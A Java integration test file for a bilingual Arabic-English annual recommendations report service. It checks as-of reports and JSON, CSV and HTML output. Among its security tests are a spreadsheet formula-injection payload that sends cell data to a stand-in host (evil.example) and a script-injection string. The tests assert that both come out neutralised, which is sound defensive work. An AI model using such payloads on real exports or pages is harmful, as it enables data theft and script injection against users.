package org.liaison.recommendations.report;

import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.eclipse.microprofile.config.inject.ConfigProperty;
import org.junit.jupiter.api.Test;
import org.liaison.contracts.CloudEventHeaders;
import org.liaison.contracts.EventJson;
import org.liaison.contracts.EventTypes;
import org.liaison.contracts.Topics;
import org.liaison.infra.testing.CloudEventProducer;
import org.liaison.infra.testing.TestTokens;
import org.liaison.recommendations.Fixtures;
import org.liaison.recommendations.RecommendationsTestResource;

import java.io.StringReader;
import java.time.Duration;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import static io.restassured.RestAssured.given;
import static org.awaitility.Awaitility.await;
import static org.hamcrest.Matchers.contains;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasSize;
import static org.hamcrest.Matchers.startsWith;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.liaison.recommendations.Fixtures.post;

/** The annual report: as of a day, reproducible; JSON, CSV and HTML by Accept; bad parameters named. */
@QuarkusTest
@WithTestResource(RecommendationsTestResource.class)
class ReportTest {

    @ConfigProperty(name = "kafka.bootstrap.servers")
    String bootstrapServers;

    private static final LocalDate TODAY = LocalDate.now(ZoneOffset.UTC);

    @Test
    void aReportAsOfAPastDayIgnoresWhatWasRecordedLater() throws Exception {
        UUID dfr = ReportData.organization();
        Response set = ReportData.workPlan(dfr);
        String three = Fixtures.recommendation(set, 3);
        String five = Fixtures.recommendation(set, 5);
        post(TestTokens.admin(), "/recommendations/" + three + "/status",
                Map.of("status", "in_progress", "date", "2023-03"))
                .then().statusCode(201);
        ReportData.backdate(set.path("id"), 10);
        String weekAgo = TODAY.minusDays(7).toString();
        String before = json(dfr, weekAgo);
        // Nothing existed yet eleven days ago.
        given().auth().oauth2(TestTokens.reader(dfr)).get("/reports/" + dfr + "/2023?asOf=" + TODAY.minusDays(11))
                .then().statusCode(200).body("sets", hasSize(0)).body("recommendations", hasSize(0));

        post(TestTokens.admin(), "/recommendations/" + three + "/status",
                Map.of("status", "implemented", "date", "2023-02"))
                .then().statusCode(201);
        post(TestTokens.admin(), "/recommendations/" + five + "/status", Map.of("status", "dropped")).then()
                .statusCode(201);
        Fixtures.adopt(Fixtures.set(dfr, 2023, "9", "توصية أضيفت لاحقاً"));

        assertEquals(before, json(dfr, weekAgo), "a later change must not alter an earlier as-of report");
        given().auth().oauth2(TestTokens.reader(dfr)).get("/reports/" + dfr + "/2023?asOf=" + weekAgo)
                .then().statusCode(200).body("asOf", equalTo(weekAgo)).body("year", equalTo(2023))
                .body("organization.nameEn", equalTo("Department of Foreign Relations"))
                .body("sets", hasSize(1)).body("recommendations", hasSize(8))
                .body("recommendations.numberAsWritten", contains("1", "2", "٣", "4", "5", "6", "7", "8"))
                .body("recommendations[2].status", equalTo("in_progress"))
                .body("recommendations[2].timeline.status", contains("adopted", "in_progress"))
                .body("recommendations[2].lastChangeDate", equalTo("2023-03"))
                .body("countsByStatus.adopted", equalTo(7)).body("countsByStatus.in_progress", equalTo(1))
                .body("countsByStatus.dropped", equalTo(0));
        // Today: the later reports count. «implemented» is dated 2023-02, so in timeline order it comes before
        // the March report, which stays the status as of today.
        String now = json(dfr, null);
        assertNotEquals(before, now);
        given().auth().oauth2(TestTokens.reader(dfr)).get("/reports/" + dfr + "/2023")
                .then().statusCode(200).body("asOf", equalTo(TODAY.toString())).body("sets", hasSize(2))
                .body("recommendations", hasSize(9))
                .body("recommendations[2].timeline.status", contains("adopted", "implemented", "in_progress"))
                .body("recommendations[2].status", equalTo("in_progress"))
                .body("recommendations[4].status", equalTo("dropped"))
                .body("countsByStatus.adopted", equalTo(7)).body("countsByStatus.dropped", equalTo(1))
                .body("countsByStatus.in_progress", equalTo(1));
    }

    @Test
    void evidenceMeetingsComeFromTheMeetingDirectory() throws Exception {
        UUID dfr = ReportData.organization();
        Response set = ReportData.workPlan(dfr);
        String two = Fixtures.recommendation(set, 2);
        UUID meeting = Fixtures.meeting(dfr, "held", 0, List.of());
        post(TestTokens.admin(), "/recommendations/" + two + "/status",
                Map.of("status", "in_progress", "meetingIds", List.of(meeting.toString()))).then().statusCode(201);
        given().auth().oauth2(TestTokens.reader(dfr)).get("/reports/" + dfr + "/2023")
                .then().statusCode(200)
                .body("recommendations[1].evidence.id", contains(meeting.toString()))
                .body("recommendations[1].evidence[0].titleAr", equalTo("الاجتماع السنوي لدائرة العلاقات الخارجية"))
                .body("recommendations[1].evidence[0].date", equalTo("2023-01"))
                .body("recommendations[1].lastChangeDate", equalTo(TODAY.toString()));
        String csv = given().auth().oauth2(TestTokens.reader(dfr)).accept("text/csv").get("/reports/" + dfr + "/2023")
                .then().statusCode(200).extract().asString();
        assertTrue(csv.contains(meeting.toString()), csv);
    }

    @Test
    void evidenceIsShownAsMeetingsAndToldApartFromStatusChanges() throws Exception {
        UUID dfr = ReportData.organization();
        Response set = ReportData.workPlan(dfr);
        UUID two = UUID.fromString(Fixtures.recommendation(set, 2));
        UUID meeting = UUID.randomUUID();
        // The annual meeting in Hasakah advances recommendation 2, through the broker as meetings-service says so.
        try (CloudEventProducer events = new CloudEventProducer(bootstrapServers)) {
            events.send(Topics.MEETINGS, meeting.toString(), UUID.randomUUID().toString(),
                    EventTypes.MEETING_SCHEDULED, "meeting/" + meeting, EventJson.mapper().writeValueAsString(
                            Fixtures.meetingState(meeting, dfr, "held", 0, List.of(two))),
                    Map.of(CloudEventHeaders.ACTOR_OFFICE, dfr.toString(), CloudEventHeaders.ACTOR_ROLE, "editor"));
        }
        await().atMost(Duration.ofSeconds(20)).untilAsserted(() -> given().auth().oauth2(TestTokens.admin())
                .get("/recommendations/" + two + "/status").then().statusCode(200)
                .body("items.kind", contains("status_change", "evidence")));
        post(TestTokens.admin(), "/recommendations/" + two + "/status",
                Map.of("status", "in_progress", "date", "2023-02", "note", "بدأ العمل")).then().statusCode(201);

        given().auth().oauth2(TestTokens.reader(dfr)).get("/reports/" + dfr + "/2023").then().statusCode(200)
                .body("recommendations[1].timeline.kind", contains("status_change", "evidence", "status_change"))
                .body("recommendations[1].timeline.status", contains("adopted", null, "in_progress"))
                .body("recommendations[1].timeline[1].meetings[0].titleAr",
                        equalTo("الاجتماع السنوي لدائرة العلاقات الخارجية"))
                .body("recommendations[1].timeline[1].meetings[0].place.cityAr", equalTo("الحسكة"))
                .body("recommendations[1].evidence[0].place.cityEn", equalTo("Hasakah"))
                .body("recommendations[1].evidence[0].date", equalTo("2023-01"));
        String html = given().auth().oauth2(TestTokens.reader(dfr)).accept("text/html")
                .get("/reports/" + dfr + "/2023").then().statusCode(200).extract().asString();
        String article = html.substring(html.indexOf("data-number=\"2\""), html.indexOf("data-number=\"3\""));
        String shown = "الاجتماع السنوي لدائرة العلاقات الخارجية <bdi class=\"date\">2023-01</bdi> — "
                + "<span class=\"place\">الحسكة</span>";
        String evidenceLine = article.substring(article.indexOf("<li class=\"evidence\">"));
        evidenceLine = evidenceLine.substring(0, evidenceLine.indexOf("</li>"));
        assertTrue(evidenceLine.contains(shown), evidenceLine);
        assertFalse(evidenceLine.contains("معتمدة"), "evidence sets no status: " + evidenceLine);
        assertTrue(article.contains("<li class=\"change\">قيد التنفيذ <span lang=\"en\" dir=\"ltr\">(in_progress)"
                + "</span> <bdi>2023-02</bdi>"), article);
        assertFalse(article.contains(meeting.toString()), "a meeting is named, never shown as its id: " + article);
        List<CSVRecord> rows = csv(dfr);
        assertEquals("الاجتماع السنوي لدائرة العلاقات الخارجية — 2023-01 — الحسكة",
                rows.get(1).get("evidence_meetings"));
        assertEquals(meeting.toString(), rows.get(1).get("evidence_meeting_ids"));
    }

    @Test
    void eachSetHasItsStatusCountsAndItsProgressMonthByMonth() throws Exception {
        UUID dfr = ReportData.organization();
        Response set = ReportData.workPlan(dfr);
        post(TestTokens.admin(), "/recommendations/" + Fixtures.recommendation(set, 3) + "/status",
                Map.of("status", "in_progress", "progress", 40, "date", "2023-03")).then().statusCode(201);
        post(TestTokens.admin(), "/recommendations/" + Fixtures.recommendation(set, 5) + "/status",
                Map.of("status", "implemented", "date", "2023-06")).then().statusCode(201);
        // Dated by the year alone: known to have happened only by its end.
        post(TestTokens.admin(), "/recommendations/" + Fixtures.recommendation(set, 6) + "/status",
                Map.of("status", "in_progress", "progress", 80, "date", "2023")).then().statusCode(201);
        given().auth().oauth2(TestTokens.reader(dfr)).get("/reports/" + dfr + "/2023").then().statusCode(200)
                .body("sets[0].countsByStatus.adopted", equalTo(5))
                .body("sets[0].countsByStatus.in_progress", equalTo(2))
                .body("sets[0].countsByStatus.implemented", equalTo(1))
                .body("sets[0].progressByMonth.month", contains("2023-01", "2023-02", "2023-03", "2023-04",
                        "2023-05", "2023-06", "2023-07", "2023-08", "2023-09", "2023-10", "2023-11", "2023-12"))
                // Mean of eight: 40 from March, 100 more from June, 80 more in December.
                .body("sets[0].progressByMonth.progress", contains(0, 0, 5, 5, 5, 17, 17, 17, 17, 17, 17, 27));
        String html = given().auth().oauth2(TestTokens.reader(dfr)).accept("text/html")
                .get("/reports/" + dfr + "/2023").then().statusCode(200).extract().asString();
        assertTrue(html.contains("<g class=\"status\" data-status=\"implemented\" data-count=\"1\">"), html);
        assertTrue(html.contains("data-month=\"2023-12\" data-progress=\"27\""), html);
    }

    private static List<CSVRecord> csv(UUID organization) throws Exception {
        String csv = given().auth().oauth2(TestTokens.reader(organization)).accept("text/csv")
                .get("/reports/" + organization + "/2023").then().statusCode(200).extract().asString();
        return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(csv))
                .getRecords();
    }

    @Test
    void csvHasOneRowPerRecommendationWithNumbersAsWritten() throws Exception {
        UUID dfr = ReportData.organization();
        ReportData.workPlan(dfr);
        String csv = given().auth().oauth2(TestTokens.reader(dfr)).accept("text/csv").get("/reports/" + dfr + "/2023")
                .then().statusCode(200).contentType(startsWith("text/csv")).extract().asString();
        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv)).getRecords();
        assertEquals(8, rows.size());
        assertEquals(List.of(ReportCsv.COLUMNS), rows.get(0).getParser().getHeaderNames());
        assertEquals("٣", rows.get(2).get("number_as_written"));
        assertEquals("3", rows.get(2).get("number"));
        assertTrue(rows.get(2).get("text_ar").startsWith("لحماية ثورة 19 تموز"));
        assertTrue(rows.get(2).get("text_en").startsWith("To protect the 19 July revolution"));
        assertEquals("adopted", rows.get(2).get("status"));
    }

    @Test
    void progressIsShownInJsonCsvAndHtmlAsOfTheDay() throws Exception {
        UUID dfr = ReportData.organization();
        Response set = ReportData.workPlan(dfr);
        String three = Fixtures.recommendation(set, 3);
        post(TestTokens.admin(), "/recommendations/" + three + "/status",
                Map.of("status", "in_progress", "progress", 30, "date", "2023-03")).then().statusCode(201);
        ReportData.backdate(set.path("id"), 3);
        post(TestTokens.admin(), "/recommendations/" + three + "/status",
                Map.of("status", "in_progress", "progress", 65, "date", "2023-09")).then().statusCode(201);
        given().auth().oauth2(TestTokens.reader(dfr)).get("/reports/" + dfr + "/2023?asOf=" + TODAY.minusDays(1))
                .then().statusCode(200).body("recommendations[2].progress", equalTo(30))
                .body("recommendations[2].timeline.progress", contains(0, 30));
        given().auth().oauth2(TestTokens.reader(dfr)).get("/reports/" + dfr + "/2023")
                .then().statusCode(200).body("recommendations[2].progress", equalTo(65))
                .body("recommendations[2].timeline.progress", contains(0, 30, 65))
                .body("recommendations[0].progress", equalTo(0));
        String csv = given().auth().oauth2(TestTokens.reader(dfr)).accept("text/csv").get("/reports/" + dfr + "/2023")
                .then().statusCode(200).extract().asString();
        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv)).getRecords();
        assertEquals("65", rows.get(2).get("progress"));
        assertEquals("0", rows.get(0).get("progress"));
        given().auth().oauth2(TestTokens.reader(dfr)).accept("text/html").get("/reports/" + dfr + "/2023")
                .then().statusCode(200)
                .body(containsString("aria-valuenow=\"65\"><span class=\"bar\" style=\"width:65%\"></span>"))
                .body(containsString("<bdi class=\"percent\">65%</bdi>"));
    }

    @Test
    void actionsAreShownAsTheyStoodInJsonCsvAndHtml() throws Exception {
        UUID dfr = ReportData.organization();
        Response set = ReportData.workPlan(dfr);
        String four = Fixtures.recommendation(set, 4);
        Response action = post(TestTokens.admin(), "/recommendations/" + four + "/actions",
                Map.of("titleAr", "لقاءات مع البرلمان الأوروبي", "titleEn", "Meetings with the European Parliament",
                        "leadOfficeId", dfr.toString(), "dueDate", "2023-09", "status", "in_progress",
                        "progress", 40, "weight", 2)).then().statusCode(201).extract().response();
        post(TestTokens.admin(), "/recommendations/" + four + "/actions", Map.of("titleAr", "زيارة إلى القاهرة"))
                .then().statusCode(201);
        ReportData.backdate(set.path("id"), 3);
        given().auth().oauth2(TestTokens.admin()).contentType("application/json")
                .header("If-Match", action.header("ETag")).body(Map.of("status", "done"))
                .patch("/recommendations/" + four + "/actions/" + action.path("id")).then().statusCode(200);
        given().auth().oauth2(TestTokens.reader(dfr)).get("/reports/" + dfr + "/2023?asOf=" + TODAY.minusDays(1))
                .then().statusCode(200)
                .body("recommendations[3].actions.titleAr", contains("لقاءات مع البرلمان الأوروبي",
                        "زيارة إلى القاهرة"))
                .body("recommendations[3].actions[0].status", equalTo("in_progress"))
                .body("recommendations[3].actions[0].leadOffice.nameAr", equalTo("دائرة العلاقات الخارجية"))
                .body("recommendations[3].progress", equalTo(26)); // (40×2 + 0) / 3
        given().auth().oauth2(TestTokens.reader(dfr)).get("/reports/" + dfr + "/2023")
                .then().statusCode(200)
                .body("recommendations[3].actions.status", contains("done", "planned"))
                .body("recommendations[3].actions[0].dueDate", equalTo("2023-09"))
                .body("recommendations[3].actions[0].weight", equalTo(2))
                .body("recommendations[3].progress", equalTo(66)) // (100×2 + 0) / 3
                .body("recommendations[0].actions", hasSize(0));
        String csv = given().auth().oauth2(TestTokens.reader(dfr)).accept("text/csv").get("/reports/" + dfr + "/2023")
                .then().statusCode(200).extract().asString();
        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv)).getRecords();
        assertEquals("لقاءات مع البرلمان الأوروبي: done 100% (weight 2, due 2023-09) | زيارة إلى القاهرة: planned 0% "
                + "(weight 1)", rows.get(3).get("actions"));
        assertEquals("66", rows.get(3).get("progress"));
        given().auth().oauth2(TestTokens.reader(dfr)).accept("text/html").get("/reports/" + dfr + "/2023")
                .then().statusCode(200)
                .body(containsString("<li class=\"action\" data-status=\"done\">لقاءات مع البرلمان الأوروبي"))
                .body(containsString("Meetings with the European Parliament"))
                .body(containsString("الموعد <bdi>2023-09</bdi>"));
    }

    @Test
    void l1_aRecommendationThatStartsLikeAFormulaIsTextInTheCsv() throws Exception {
        UUID dfr = ReportData.organization();
        String formula = "=HYPERLINK(\"https://evil.example/?\"&B2,\"open\")";
        Map<String, Object> body = Fixtures.set(dfr, 2023);
        body.put("recommendations",
                List.of(Map.of("number", 1, "textAr", "العمل على كسب المزيد من الدعم", "textEn", formula)));
        post(TestTokens.editor(dfr), "/recommendation-sets", body).then().statusCode(201);
        String csv = given().auth().oauth2(TestTokens.reader(dfr)).accept("text/csv").get("/reports/" + dfr + "/2023")
                .then().statusCode(200).extract().asString();
        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv)).getRecords();
        assertEquals("'" + formula, rows.get(0).get("text_en"));
    }

    @Test
    void l2_thePrintableReportLoadsNothingAndCannotBeFramed() throws Exception {
        UUID dfr = ReportData.organization();
        ReportData.workPlan(dfr);
        given().auth().oauth2(TestTokens.reader(dfr)).accept("text/html").get("/reports/" + dfr + "/2023")
                .then().statusCode(200).header("X-Content-Type-Options", "nosniff")
                .header("Content-Security-Policy",
                        "default-src 'none'; style-src 'unsafe-inline'; frame-ancestors 'none'");
    }

    @Test
    void htmlIsABilingualRightToLeftPage() throws Exception {
        UUID dfr = ReportData.organization();
        Response set = ReportData.workPlan(dfr);
        post(TestTokens.admin(), "/recommendations/" + Fixtures.recommendation(set, 1) + "/status",
                Map.of("status", "planned", "note", "<script>alert(1)</script>")).then().statusCode(201);
        given().auth().oauth2(TestTokens.reader(dfr)).accept("text/html").get("/reports/" + dfr + "/2023")
                .then().statusCode(200).contentType(startsWith("text/html"))
                .body(containsString("<html lang=\"ar\" dir=\"rtl\">"))
                .body(containsString("lang=\"en\" dir=\"ltr\""))
                .body(containsString("<span class=\"num\">٣</span>"))
                .body(containsString("@media print"))
                .body(containsString("&lt;script&gt;alert(1)&lt;/script&gt;"))
                .body(org.hamcrest.Matchers.not(containsString("<script")))
                .body(org.hamcrest.Matchers.not(containsString("src=")))
                .body(org.hamcrest.Matchers.not(containsString("<link")));
        // JSON is the default.
        given().auth().oauth2(TestTokens.reader(dfr)).get("/reports/" + dfr + "/2023")
                .then().statusCode(200).contentType(startsWith("application/json"));
    }

    @Test
    void badParametersAreNamed() {
        UUID dfr = ReportData.organization();
        String reader = TestTokens.reader(dfr);
        given().auth().oauth2(reader).get("/reports/" + UUID.randomUUID() + "/2023")
                .then().statusCode(404).contentType("application/problem+json");
        given().auth().oauth2(reader).get("/reports/not-a-uuid/2023")
                .then().statusCode(400).body("errors[0].field", equalTo("organizationId"));
        given().auth().oauth2(reader).get("/reports/" + dfr + "/twenty")
                .then().statusCode(400).contentType("application/problem+json")
                .body("errors[0].field", equalTo("year"));
        given().auth().oauth2(reader).get("/reports/" + dfr + "/1800").then().statusCode(400)
                .body("errors[0].field", equalTo("year"));
        given().auth().oauth2(reader).get("/reports/" + dfr + "/2023?asOf=2023-02-30")
                .then().statusCode(400).body("errors[0].field", equalTo("asOf"));
        given().auth().oauth2(reader).get("/reports/" + dfr + "/2023?asOf=yesterday")
                .then().statusCode(400).body("errors[0].field", equalTo("asOf"));
        given().auth().oauth2(reader).get("/reports/" + dfr + "/2023?asOf=" + TODAY.plusDays(2))
                .then().statusCode(400).body("errors[0].field", equalTo("asOf"));
        given().get("/reports/" + dfr + "/2023").then().statusCode(401);
    }

    private static String json(UUID organization, String asOf) {
        return given().auth().oauth2(TestTokens.reader(organization))
                .get("/reports/" + organization + "/2023" + (asOf == null ? "" : "?asOf=" + asOf))
                .then().statusCode(200).extract().asString();
    }
}
